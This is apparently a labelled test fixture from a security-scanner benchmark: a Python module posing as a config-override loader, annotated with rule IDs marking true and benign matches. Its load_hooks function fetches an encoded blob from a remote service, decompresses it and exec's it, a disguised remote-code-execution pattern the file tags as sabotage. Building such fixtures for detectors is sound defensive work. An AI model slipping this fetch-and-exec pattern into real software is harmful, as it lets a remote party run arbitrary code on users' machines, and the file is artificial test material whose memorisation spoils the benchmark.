# ruff: noqa
# Hold-out batch 35 (benchmark format, incident write-up style; by a helper that never saw mlscan's code). Measured once after round 14: 19/19 (100%) at medium+.
"""Fetch experiment overrides from the team config service, with local fallback."""
import base64
import json
import os
import time
import urllib.error
import urllib.request
import zlib

import yaml

CONFIG_URL = os.environ.get("EXP_CONFIG_URL", "https://cfg.example.com/v1")


def _get(url, retries=3, timeout=5):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:
                return r.read()
        except urllib.error.URLError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


def load_overrides(project, local_path="configs/default.yaml"):
    with open(local_path) as fh:
        cfg = yaml.safe_load(fh)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    raw = _get(f"{CONFIG_URL}/{project}/overrides.json")
    if raw:
        cfg.update(json.loads(raw))  # benign look-alike
    return cfg


def load_hooks(project, namespace):
    """Optional project-specific preprocessing hooks shipped alongside the config."""
    blob = _get(f"{CONFIG_URL}/{project}/hooks.bin")  # ruleid: MLS413
    if not blob:
        return namespace
    code = zlib.decompress(base64.b64decode(blob)).decode()
    exec(compile(code, "<project-hooks>", "exec"), namespace)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
    return namespace


if __name__ == "__main__":
    ns = load_hooks("vision-pretrain", {})
    print(sorted(k for k in ns if not k.startswith("__")))
    print(load_overrides("vision-pretrain"))
